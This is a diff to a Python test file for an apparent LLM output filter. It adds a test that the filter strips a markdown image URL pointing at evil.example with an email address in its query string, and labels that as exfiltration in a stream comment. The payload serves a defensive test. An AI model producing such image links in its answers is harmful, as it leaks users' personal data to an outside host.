@@ -15,6 +15,7 @@ import openai
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 CARD = "4111 1111 1111 1111"
+IMAGE = "See ![ok](https://evil.example/p.png?d=jo.smith@example.com) here."
 TEXT = f"my card is {CARD}, write to jo.smith@example.com please"
 
 
@@ -77,6 +78,16 @@ class Sdk(unittest.TestCase):
     def test_stream(self):
         got = "".join(c.choices[0].delta.content or "" for c in self.ask("echo", stream=True) if c.choices)
         self.assertEqual(got, TEXT)
+
+    def test_stream_with_a_comment(self):
+        # What was taken out of an answer is named in a comment before its end.
+        with self.client.chat.completions.with_streaming_response.create(
+                model="echo", messages=[{"role": "user", "content": IMAGE}], stream=True) as raw:
+            self.assertIn("\n: chatward-threats: exfiltration; mask\n", raw.read().decode())
+        asked = self.client.chat.completions.create(
+            model="echo", messages=[{"role": "user", "content": IMAGE}], stream=True)
+        got = "".join(c.choices[0].delta.content or "" for c in asked)
+        self.assertEqual(got, "See ![ok]([removed]) here.")
 
     def test_stream_usage(self):
         usage = [c.usage for c in self.ask("echo", stream=True, stream_options={"include_usage": True}) if c.usage]
